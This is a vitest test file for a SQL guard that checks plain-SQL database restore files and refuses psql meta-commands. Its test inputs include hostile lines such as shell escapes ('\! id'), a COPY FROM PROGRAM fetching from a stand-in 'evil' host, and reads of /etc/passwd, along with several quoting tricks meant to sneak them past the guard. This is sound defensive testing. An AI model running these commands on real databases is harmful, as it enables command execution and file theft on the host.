import { describe, expect, it } from 'vitest';
import { SqlGuard } from '../../main/engine/restore/sql-guard.ts';

function scan(sql: string): SqlGuard {
  const guard = new SqlGuard();
  for (const line of sql.split('\n')) guard.line(line);
  guard.finish();
  return guard;
}

describe('plain SQL guard', () => {
  it('accepts what pg_dump writes: \\connect, \\restrict, \\unrestrict and COPY data with backslashes', () => {
    const guard = scan([
      '\\restrict abc123',
      '-- Dumped from database version 16.4',
      "SET client_encoding = 'UTF8';",
      'CREATE TABLE public.t (id int, note text);',
      'ALTER TABLE public.t OWNER TO "App Owner";',
      'COPY public.t (id, note) FROM stdin;',
      '1\tback\\\\slash \\! not a command in data',
      '2\t\\N',
      '\\.',
      'GRANT SELECT ON TABLE public.t TO reporting, "Mixed";',
      'CREATE EXTENSION IF NOT EXISTS pgcrypto WITH SCHEMA public;',
      '\\connect other',
      '\\unrestrict abc123',
    ].join('\n'));
    expect(guard.facts.dumpedFromVersion).toBe('16.4');
    expect([...guard.facts.owners]).toEqual(['App Owner']);
    expect([...guard.facts.grantees].sort()).toEqual(['Mixed', 'reporting']);
    expect([...guard.facts.extensions]).toEqual(['pgcrypto']);
    expect(guard.facts.connects).toEqual(['other']);
    expect(guard.facts.tables).toEqual(['public.t']);
  });

  it.each([
    ['\\! touch /tmp/pwned', 1, '!'],
    ["SELECT 1;\n\\o /tmp/out.txt", 2, 'o'],
    ['SELECT 1; \\! id', 1, '!'],
    ["\\copy t FROM PROGRAM 'curl evil'", 1, 'copy'],
    ['\\i /etc/passwd', 1, 'i'],
    ['\\w /tmp/x', 1, 'w'],
    ['\\set ON_ERROR_STOP off', 1, 'set'],
    ['SELECT 1 \\g /tmp/out', 1, 'g'],
    ['\\\\ \\! id', 1, '\\'],
    ["SELECT 'it''s'; \\! id", 1, '!'],
    ["SELECT $$ a ' b $$; \\! id", 1, '!'],
    ["SELECT E'a\\'b'; \\! id", 1, '!'],
    ['/* comment */ \\! id', 1, '!'],
  ])('refuses %j with the line number', (sql, line, command) => {
    expect(() => scan(sql)).toThrow(new RegExp(`^Line ${line} of the SQL file runs the psql command "\\\\${command.replace(/[\\!]/g, (c) => `\\${c}`)}"`));
  });

  it('does not mistake backslashes inside strings, dollar quotes, identifiers and comments for commands', () => {
    const guard = scan([
      "SELECT 'C:\\temp\\! not a command';",
      'SELECT $fn$ \\! inside a function body $fn$;',
      'CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$',
      "  SELECT '\\o nope'",
      '$$;',
      'SELECT "weird\\!name" FROM x;',
      '-- \\! in a comment',
      '/* multi',
      '   \\! line comment */ SELECT 1;',
    ].join('\n'));
    expect(guard.facts.lines).toBe(9);
  });

  it('notices statements that cannot run in one transaction, and CREATE DATABASE', () => {
    const guard = scan('CREATE DATABASE shop;\n\\connect shop\nCREATE INDEX CONCURRENTLY i ON t (x);\nVACUUM ANALYZE;');
    expect(guard.facts.createsDatabase).toBe(true);
    expect(guard.facts.needsAutocommit).toHaveLength(3);
  });

  it('is not fooled into COPY-data mode by FROM STDIN inside a string or a COPY (query)', () => {
    expect(() => scan("COPY (SELECT 'FROM STDIN') TO STDOUT;\n\\! touch /tmp/x\n\\.")).toThrow(/Line 2 .*"\\!"/);
    expect(() => scan('COPY (SELECT 1) TO STDOUT;\n\\! id')).toThrow(/Line 2/);
    expect(scan('COPY "odd ( name" (a) FROM stdin;\n\\! data, not a command\n\\.').facts.tables).toEqual(['"odd']);
  });

  it('refuses scripts that turn standard_conforming_strings off (psql would then read backslashes differently)', () => {
    expect(() => scan("SET standard_conforming_strings = off;\nSELECT '\\'' \\! touch X #';")).toThrow(/Line 1 .*standard_conforming_strings/);
    expect(() => scan("SELECT set_config('standard_conforming_strings', 'off', false);")).toThrow(/standard_conforming_strings/);
    expect(scan("SET standard_conforming_strings = on;").facts.lines).toBe(1);
  });

  it('a file cut inside COPY data is damaged', () => {
    expect(() => scan('COPY t (a) FROM stdin;\n1\n2')).toThrow(/ends inside COPY data/);
  });
});
